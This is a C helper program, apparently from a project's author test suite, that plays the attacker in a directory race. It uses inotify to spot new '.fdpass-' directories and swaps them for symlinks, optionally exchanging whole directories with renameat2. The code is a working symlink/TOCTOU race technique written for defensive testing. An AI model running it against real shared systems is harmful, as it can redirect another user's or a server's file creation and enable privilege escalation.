/*
 * The attacker of xt/30-endpoint-races.t's private-directory case: it
 * watches a directory it can write (inotify) and, as soon as a
 * directory named ".fdpass-..." appears there, renames it away and puts
 * a symlink to target at its name.  A server that then reaches its
 * private directory by name (bind on "dir/.fdpass-X/s") follows the
 * symlink and makes its node in target.  With "up", DIR itself is not
 * the attacker's to change (another user's directory in a directory the
 * attacker can write): the symlink is put in a directory of the
 * attacker's, DIR.eK, which is then exchanged with DIR
 * (renameat2 RENAME_EXCHANGE), so DIR's path leads there.  The watch
 * stays on the directory first named DIR, wherever it is moved.  Stops
 * on SIGTERM or after the seconds given; prints "seen=N swaps=N".
 *
 * usage: privswap DIR TARGET SECONDS [up]
 */
#define _GNU_SOURCE 1
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
# define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void
on_stop(int sig)
{
    (void)sig;
    stop = 1;
}

int
main(int argc, char **argv)
{
    union {
        struct inotify_event ev;
        char buf[4096];
    } u;
    struct sigaction sa;
    unsigned long swaps = 0, seen = 0, n = 0, k = 0;
    char moved[64], evil[4096], link[8192];
    int in, dfd, up;
    ssize_t len, off;

    if (argc != 4 && argc != 5)
        return 2;
    up = argc == 5 && strcmp(argv[4], "up") == 0;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_stop; /* no SA_RESTART: read() returns EINTR */
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGALRM, &sa, NULL);
    in = inotify_init1(IN_CLOEXEC);
    dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (in < 0 || dfd < 0 || inotify_add_watch(in, argv[1], IN_CREATE) < 0) {
        printf("setup: %s\n", strerror(errno));
        return 1;
    }
    snprintf(evil, sizeof evil, "%s.e%lu", argv[1], k);
    if (up && mkdir(evil, 0755) < 0) {
        printf("setup: %s\n", strerror(errno));
        return 1;
    }
    alarm((unsigned)atoi(argv[3]));
    printf("ready\n");
    fflush(stdout);
    while (!stop) {
        len = read(in, u.buf, sizeof u.buf);
        if (len <= 0)
            continue;
        for (off = 0; off < len;) {
            struct inotify_event *ev = (struct inotify_event *)(u.buf + off);

            off += (ssize_t)(sizeof *ev + ev->len);
            if (!(ev->mask & IN_ISDIR) || ev->len == 0
                || strncmp(ev->name, ".fdpass-", 8) != 0)
                continue;
            seen++;
            if (up) {
                snprintf(link, sizeof link, "%s/%s", evil, ev->name);
                if (symlink(argv[2], link) == 0
                    && syscall(SYS_renameat2, AT_FDCWD, evil, AT_FDCWD,
                               argv[1], RENAME_EXCHANGE) == 0) {
                    swaps++;
                    snprintf(evil, sizeof evil, "%s.e%lu", argv[1], ++k);
                    (void)mkdir(evil, 0755);
                }
                continue;
            }
            snprintf(moved, sizeof moved, "moved%lu", n++);
            if (renameat(dfd, ev->name, dfd, moved) == 0
                && symlinkat(argv[2], dfd, ev->name) == 0)
                swaps++;
        }
    }
    printf("seen=%lu swaps=%lu\n", seen, swaps);
    return 0;
}
